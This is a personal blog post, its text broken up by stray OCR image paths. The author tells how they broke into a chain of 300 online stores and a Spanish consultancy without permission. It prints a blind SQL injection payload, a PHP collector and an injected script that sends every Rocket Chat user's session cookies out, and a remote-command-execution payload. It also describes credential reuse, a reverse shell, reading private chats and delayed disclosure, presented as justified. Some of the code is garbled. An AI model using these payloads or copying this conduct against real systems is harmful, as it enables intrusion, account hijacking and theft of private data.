_  _              _
     ___  __| || |__  _ _  ___| |__
    / -_)/ _` || '_ \| '_|(_-<| / /
    \___|\__,_||_.__/|_|  /__/|_\_\
                    u/edbrsk's blog

The story about how I compromised 300 stores, and a “Spanish consultancy”.

Part 1. How I compromised 300 stores:

I was on an online store, you know, to compare prices about something I wanted to buy. I got bored. I opened the Wappalyzer: Apache 2.4.46, Amazon EC2, PHP. Okay!

It all started as a “let’s see if this site is vulnerable to something or not”. I’m not gonna post names, and I’ll try to avoid any hints. The report about the vulnerabilities and the misconfigurations is still ongoing, so some issues may not befixed everywhere yet.

It was not a Wordpress or another kind of CMS, okay… I checked the robots.txt. I found a panel to log in… I tried default credentials like admin/admin, etc., but were not working. Reading the footer of the log-in panel, I found two things. The store is part of a chain with more than 300 stores, and the CMS/Platform (I don’t know how to call it) was made by the same company. A little bit of “Googling” to confirm, and I found that ALL OF THEM have the same “CMS”, the same log-in panel, just a few differences like CSS, languages, etc. What if all of them have common credentials? Looks promising! 😅

Let’s scan the ports of this server to have a little bit more of information.

port 21  open ftp  vsftpd 2.2.2
port 22  open ssh  OpenSSH 7.4
port 80  open http Apache httpd 2.4.48 Amazon OpenSSL/1.0.2k-fips PHP/7.1.33
port 443 open ssl  Apache httpd

I exported the scan on a file to have an idea about the services running on the server.

I’m always trying the basic things first. I tried some reflected/persistent XSS, SQL Injection onthe search bar, etc,. there are some params in the URL, so I thought that I could inject code there, but I wasn’t successful in the beginning. At that moment I thought: “Well… maybe the people that built this custom CMS are sanitizing the params, or using I don’t know, some framework that isdoing that for them under the hood”. Not really. Have you ever read before about Time-Based Blind SQL Injection Attacks? The search bar has some filters to apply, so I tried some things on them, and BINGO! 😎

https://www.example.com/action?q=search_term&VULNERABLE_PARAM=1; SELECT SLEEP(5)#

The magic happens with the ; SELECT SLEEP(5)# you can google more about it. The important thing here, is that I was able to dump the database. I was expecting just a few tables, the ones related with the site, but to my surprise there is just one schema with the name of this chain I saw before on the log in panel. This schema contains more than three thousand tables, yep, more than 3000 tables.

At this point, I invest some time trying to figure out the tables. Some of them in English, others in Spanish, also temporary tables, theoretically, but the interesting one was: Users. I downloaded the data from this table, and a list of potential admin users, emails, phones, some tokens for purposes that I didn’t understand at that time, etc. At least the passwords were hashed.

I was kind of sad at this point. Thinking: “Well… this is the end. I found an SQL Injection, a lot of data, but nothing else.” My girlfriend and my dog suggested that I get off the computer, so I went to sleep. 🌖

I was searching for an inspirational quote to put it here, but I just came up with this one:Every sunrise is a chance to think if you are on the correct path.

I wasn’t in the correct path. I had to figure out something else. I woke up, and I created a dictionary with data from the “Users” table. Actually, brute force wasn’t needed. I got it on the first attempt. WTF? Seriously?  I got access to the dashboard as a Super Admin in less than 1 minute. The password of this guy was the same as his username. Nice!

I can’t upload a picture of it but imagine the common Bootstrap template for dashboards. I got access to everything: Orders, Discounts, Products, Clients, News/Posts, Newsletters, etc., and I had the permissions to do everything I wanted.

Is that a common practice of this company? Yes, it is. I haven’t tried the 300 stores, but I logged in to some of them as a Super Admin and I was able to login into other web pages that are not part of the chain with the same credentials.

I was lucky. I mean, in the end, it could just have been an SQL Injection, but you know… “Humans are the weakest link in the Cybersecurity chain.”

Let’s grab a beer, this is not the end.

Part 2. How I compromised a “Spanish consultancy”:

I thought about writing an email to these people, let them know about the vulnerabilities in their code, and the bad practices they have, but I didn’t at this point. I felt like I was able to find more things regarding this company. I used to work in consultancy before, and usually, these companies are involved in more than one project. I decided to wait a bit more to send them all the information that I could find. You might think that this is not ethical behavior, and maybe you are right, but in the end, they will be still open to othervulnerabilities/misconfigurations that are critical for their services. I opened the browser, and I started to do a bit of “OSINT” about this company.

Valuable information I found:

- The company is involved in public tender projects.
    - (Projects for their region.)
- The CMS it's not just being used in the 300 stores.
    - It's also reused in other projects, and yes, the credentials I found are still valid.
- The company was offering different (vulnerable) products some of them as a SAAS.

There are more things, but I want to keep this post short if possible. At this point, I knew a few things about the company. I tried to find subdomains, and one of them potentially caught my attention.

The company uses Rocket Chat (similar to Slack) under a subdomain, and you don’t need any VPN/2FA/whatever to log in. Figure out the credentials! Yeah, you are right! 😉 Our credentials works for the chat as well, and our guy has the Admin role.

All right, I was in!  We could say that I was inside the company. At this point I was able to read private conversations with the employees, find words on public channels/private conversations, take a look at what they aresaying about their clients… whatever I want… in the end, I logged in as their boss, and he has the Admin role.

Okay… Well, things I tried (and worked):

If we take a look at the ports scan I wrote above, we have ports 21/22 opened, right? So, let’s try to find the credentials in private conversations. Yep, I got FTP and SSH credentials!

At this point I was able to upload/download/modify the code, actually, this is how I found the database host + credentials because as you may know it’s quite common to have the credentials in some config file if you are not using, idk, AWS Secrets Manager or something similar.

Users are writing their credit cards here. Do you understand the risk of all of this?

Anyway… I was able to get a reverse shell and take a look to the server as well.

Having admin credentials, it’s critical per se. I mean, I can read their conversations about everything. However, we don’t have the credentials of everyone, looks like some employees are not following the bad practices, so their password is not their username. No worries, a little bit more “googling” and we can fix that!

Rocket Chat allows you to create custom scripts in JavaScript. I was an admin, so, I could do that! The idea it’s create a script that does a request somewhere to save the rc_uid andrc_token.

At this point you have to be “creative?”. Let’s gonna create a simple PHP script and deploy it somewhere:

$filename = 'info.txt';

if (isset($_REQUEST['cookie']) && isset($_REQUEST['user'])) {
    $text = $_REQUEST['user'] . ":" . $_REQUEST['cookie'] . "\n";
    if (is_writable($filename)) {
        if (!$handle = fopen($filename, 'a')) {
            echo "cannot open file ($filename)";

        if (fwrite($handle, $text) === FALSE) {
            echo "cannot write to file ($filename)";

        echo "success";

    } else {
        echo "The file $filename is not writable";

Now click on: Settings > Layout > Scripts for logged-in users:

// Add your script
let c = document.cookie.split(';')
let u = document.querySelector('.avatar-image').src.split('/')[4]

    .then((r) => r.json())
    .then((data) => {})
    .catch((e) => {});

That’s it! We’ll end up with a file with thecookies of everyone logged in. It should look like this:

user:_ga=xxxx; rc_uid=xxx; rc_token=xxx; _gid=xxxx

We can now modify in our browser the local storage and the cookies. Refresh it, and we’ll have the session of the user you choose.

Easy for admins to hijack your account, isn’t it? Be careful about what y’all are saying of your boss if you use Rocket Chat, just in case! 😅

Remote Command Execution

To learn more about this step, the last one of this story. I recommend the original post.

This simple payload worked, so I was able to take a look inside the instance that is running the rocket chat.const require = console.log('return process.mainModule.require')();
const { spawnSync } = require('child_process');
const ls = spawnSync('ls', ['-la', '/']);

class Script {
    process_incoming_request({ request }) {
        return {
            content: {
                text: ls.stdout.toString()


This post aims to show people how their data is vulnerable to get stolen in some environments and how companies forget about a minimum level of goodpractices regarding cybersecurity.

In the end, I got lucky with weak credentials, and that was an important point that allowed me to continue with all this.

As I said this post is to raise awareness and not point out the developers, admins, etc., of any company.

Some of you would consider this as bad behavior from my side. I’m sorry to hear that. What would you do if you ever find something like this? All this has been reported, and it’s being fixed. DISCLOSURE accepted, andthat’s why this report won’t contain names ever. IMHO bad behavior is having all this information available “open to the Internet.”, waiting for someone else to come with truly unethical purposes. If you ever find avulnerability and keep quiet about it, I don’t think that makes you any more ethical.

If you have any suggestion/doubt, don’t hesitate to reach me out!

Share article